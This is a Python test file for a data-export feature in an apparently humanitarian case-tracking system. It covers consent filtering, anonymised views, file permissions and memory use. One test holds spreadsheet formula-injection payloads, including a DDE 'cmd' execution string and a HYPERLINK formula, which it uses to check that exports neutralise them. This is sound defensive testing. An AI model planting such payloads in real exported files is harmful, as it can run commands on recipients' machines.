"""Exports from what phones sent: whose rows, which columns, what a reader may see, what a spreadsheet makes
of it."""

import csv
import secrets
import tracemalloc
from datetime import timedelta
from io import BytesIO, StringIO

import openpyxl
import pytest
from click.testing import CliRunner

from server import cli, export_file
from sync import exporting, pipeline
from sync.core.decision import Decision
from sync.core.problem import Problem
from sync.core.scope import EVERYBODY
from sync.store import audit, forms, returnees
from sync.store.connect import database, ensure_indexes
from sync.store.rules import current_rules
from tests.conftest import take_over
from tests.desk import FOLLOW_UP, NOW, SCREENING, SCREENING_AT, TODAY, Desk
from tests.server.files import a_file

FORMULA = '=HYPERLINK("http://x/"&A1,"see")'
NAMES = ("Sreymarker Zqx", FORMULA, "Thirdmarker Zqz")


def agree(db, file, purpose="statistics", given="yes"):
    at = NOW if given == "yes" else NOW + timedelta(hours=1)
    decision = Decision(
        decision_id=f"{file['_id']}{purpose}{given}", kind="consent", entity_id=file["_id"], at=at, on=TODAY,
        by="dara", reason="She said so.", about=purpose, details={"given": given},
    )  # fmt: skip
    pipeline.decide(db, decision, current_rules(db))


@pytest.fixture(scope="module")
def three(any_database, with_our_workbooks, java):
    """Three people with a screening and a visit each; all agreed, one of them took it back."""
    db = database(any_database.client, f"pteah_test_exports_{secrets.token_hex(6)}")
    ensure_indexes(db)
    take_over(with_our_workbooks, db)
    desk = Desk(db, java)
    for name in NAMES:
        desk.fill("screening", {**SCREENING, "call_name": name}, SCREENING_AT)
    desk.work()
    people = desk.people()
    found = {file["person"]["call_name"]: file for file in returnees.every(desk.db)}
    for file in found.values():
        visit = {**FOLLOW_UP, "person": file["_id"]}
        desk.fill("followup", visit, NOW.replace(day=18), people=people)
    desk.work()
    agree(desk.db, found[NAMES[0]])
    agree(desk.db, found[FORMULA])
    agree(desk.db, found[NAMES[2]])
    agree(desk.db, found[NAMES[2]], given="no")
    yield desk.db, [found[name] for name in NAMES]
    any_database.client.drop_database(db.name)


def exported(db, what="people", sight="people", purpose="statistics"):
    export = exporting.prepare(db, what, sight=sight, within=EVERYBODY, purpose=purpose)
    text = "".join(export_file.csv_lines(export))
    assert text.startswith("\ufeff")
    return export, list(csv.DictReader(StringIO(text[1:], newline="")))


def test_only_those_who_agreed_are_in_it_and_how_many_are_not_is_said(three):
    db, (one, two, _) = three
    export, rows = exported(db)
    assert {row["person"] for row in rows} == {one["case_code"], two["case_code"]}
    assert (set(export.people), export.left_out) == ({one["_id"], two["_id"]}, 1)
    row = next(row for row in rows if row["person"] == one["case_code"])
    assert (row["call_name"], row["sex"], row["level"]) == (NAMES[0], "female", one["risk"]["level"])

    assert exported(db, purpose="share_partner")[0].people == []
    with pytest.raises(Problem) as refused:
        exported(db, purpose="fun")
    assert refused.value.code == "export.purpose_unknown"
    with pytest.raises(Problem) as refused:
        exported(db, "nothing")
    assert refused.value.code == "form.unknown"


def test_who_sees_nobody_gets_no_name_no_place_no_day_and_no_words(three):
    db, (one, two, three_) = three
    for what in ("people", "screening", "followup"):
        export, rows = exported(db, what, sight="nobody", purpose="share_partner")
        assert export.purpose == "statistics", "whatever was asked for"
        assert len(rows) == 2
        told = repr([export.columns, rows])
        for secret in (
            *NAMES,
            "Zqx",
            one["case_code"],
            two["case_code"],
            three_["case_code"],
            one["_id"],
        ):
            assert secret not in told, (what, secret)
            assert not {"call_name", "worker_note", "village", "commune", "instance_id", "worker_id"} & set(
                export.columns
            )
        assert {row["person"][:2] for row in rows} == {"P-"}
    _, visits = exported(db, "followup", sight="nobody")
    _, people = exported(db, "people", sight="nobody")
    assert {row["person"] for row in visits} == {row["person"] for row in people}, (
        "rows of one person go together"
    )
    assert {row["on"] for row in visits} == {"2026-Q1"}
    assert {row["danger_now"] for row in visits} == {"no"}


def test_nothing_in_it_is_a_formula(three):
    db, _ = three
    _, rows = exported(db)
    assert {row["call_name"] for row in rows} == {NAMES[0], f"'{FORMULA}"}

    export = exporting.prepare(db, "people", sight="people", within=EVERYBODY, purpose="statistics")
    book = openpyxl.load_workbook(BytesIO(b"".join(export_file.xlsx_pieces(export, by="dara", at=NOW))))
    cells = [cell for sheet in book for line in sheet.iter_rows() for cell in line if cell.value is not None]
    assert {cell.data_type for cell in cells} <= {"s", "n", "b"}
    assert f"'{FORMULA}" in {cell.value for cell in cells}
    about = {row[0]: row[1] for row in book["about"].iter_rows(values_only=True)}
    assert (about["people"], about["left out: no consent for this purpose"]) == (2, 1)


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1",
        "@x",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1",
        "\u00a0=1",
        "＝1",
        "|x",
        "%0A",
        "=cmd|' /C x'!A0",
    ],
)
def test_what_a_spreadsheet_would_work_out_gets_a_mark_in_front(text):
    assert export_file.harmless(text) == f"'{text}"
    assert export_file.harmless("plain = text") == "plain = text"
    assert export_file.harmless(-5) == -5
    assert export_file.harmless("a\x00b\x0bc") == "abc"


def test_a_renamed_question_keeps_its_column_and_its_place(three):
    db, _ = three
    before, _ = exported(db, "followup")
    (version,) = [one for one in forms.current(db) if one["form_id"] == "followup"]
    whole = db.form_versions.find_one({"_id": version["_id"]})
    xform = bytes(whole["xform"]).replace(b"danger_now", b"danger_today")
    renamed = {
        **whole, "_id": "followup@9999999999", "version": "9999999999", "xform": xform,
        "renames": {"danger_today": "danger_now"},
        "privacy": {**whole["privacy"], "danger_today": "sensitive"},
        "published_at": NOW,
    }  # fmt: skip
    db.form_versions.insert_one(renamed)
    (record,) = db.records.find({"form_id": "followup", "entity_ids": before.people[0]})
    answers = [
        {**one, "name": "danger_today", "value": "yes"} if one["name"] == "danger_now" else one
        for one in record["answers"]
    ]
    newer = {**record, "_id": "uuid:newer", "form_version": "9999999999", "answers": answers}
    db.records.insert_one(newer)

    after, rows = exported(db, "followup")
    assert after.columns == before.columns
    assert sorted(row["danger_now"] for row in rows) == ["no", "no", "yes"]
    db.records.delete_one({"_id": "uuid:newer"})
    db.form_versions.delete_one({"_id": renamed["_id"]})


def test_the_command_writes_a_file_nobody_else_reads_and_says_who_is_in_it(
    three, monkeypatch, mongodb_uri, tmp_path
):
    db, (one, two, _) = three
    monkeypatch.setenv("PTEAH_MONGODB_URI", mongodb_uri)
    monkeypatch.setenv("PTEAH_DATABASE", db.name)
    monkeypatch.setenv("PTEAH_DATA", str(tmp_path))
    file = tmp_path / "people.csv"

    done = CliRunner().invoke(cli.main, ["export", "rows", "people", str(file), "--with-names"])

    assert done.exit_code == 0, done.output
    assert "2 people; 1 left out" in done.output
    assert file.stat().st_mode & 0o077 == 0
    assert NAMES[0] in file.read_text()
    row = next(row for row in audit.recent(db, kind="export"))
    assert set(row["about"]) == {one["_id"], two["_id"]}
    assert (row["more"]["left_out"], row["more"]["purpose"]) == (1, "statistics")
    again = CliRunner().invoke(cli.main, ["export", "rows", "people", str(tmp_path / "x.pdf")])
    assert (again.exit_code, again.exception.__class__) == (1, SystemExit)


def test_the_rows_of_many_people_take_no_more_memory_than_those_of_few(db):
    agreed = [{"purpose": "statistics", "given": True, "on": "2026-01-01", "by": "x"}]
    note = "x" * 5_000
    peaks: dict[str, list[int]] = {"csv": [], "xlsx": []}
    for count in (200, 2_000):
        db.returnees.delete_many({})
        for start in range(0, count, 500):
            some = range(start, min(start + 500, count))
            db.returnees.insert_many([a_file(number, consent=agreed, note=note) for number in some])
        export = exporting.prepare(db, "people", sight="people", within=EVERYBODY, purpose="statistics")
        tracemalloc.start()
        assert sum(len(piece.splitlines()) for piece in export_file.csv_lines(export)) == count + 1
        peaks["csv"].append(tracemalloc.get_traced_memory()[1])
        tracemalloc.reset_peak()
        assert sum(len(piece) for piece in export_file.xlsx_pieces(export, by="dara", at=NOW)) > 10 * count
        peaks["xlsx"].append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()
    assert {kind: many < 2 * few for kind, (few, many) in peaks.items()} == {"csv": True, "xlsx": True}


def test_a_workbook_begins_to_come_before_its_first_row_is_read_and_holds_every_kind_of_value(monkeypatch):
    """No name waits in a file of its own on the disk for the last row."""
    read = []
    rows = [["Sok", 1, 2.5, True, None, "x < y & 'z' > ''"], [FORMULA, -3, 0.1, False, "\x0bគ", "  spaces  "]]

    def come(tell):
        for row in rows:
            read.append(row)
            yield row

    columns = ["=name", "a", "b", "c", "d", "e"]
    export = exporting.Export(
        what="people", purpose="statistics", columns=columns, people=["1"], left_out=0, rows=come
    )
    pieces = export_file.xlsx_pieces(export, by="=dara", at=NOW)
    first = next(pieces)
    monkeypatch.setattr("tempfile.tempdir", "/nowhere")
    assert (first[:2], read) == (b"PK", [])
    content = first + b"".join(pieces)
    for fast in (False, True):
        book = openpyxl.load_workbook(BytesIO(content), read_only=fast)
        assert list(book["people"].iter_rows(values_only=True)) == [
            tuple(columns),
            ("Sok", 1, 2.5, True, None, "x < y & 'z' > ''"),
            (f"'{FORMULA}", -3, 0.1, False, "គ", "  spaces  "),
        ]
        assert {cell.data_type for line in book["people"].iter_rows() for cell in line} <= {"s", "n", "b"}
        assert ("exported by", "'=dara") in list(book["about"].iter_rows(values_only=True))


def test_how_large_a_file_will_be_is_told_by_its_first_hundred_people(three):
    db, _ = three
    export, _ = exported(db)
    whole = sum(len(piece.encode()) for piece in export_file.csv_lines(export))
    assert export_file.size_of(export) == whole
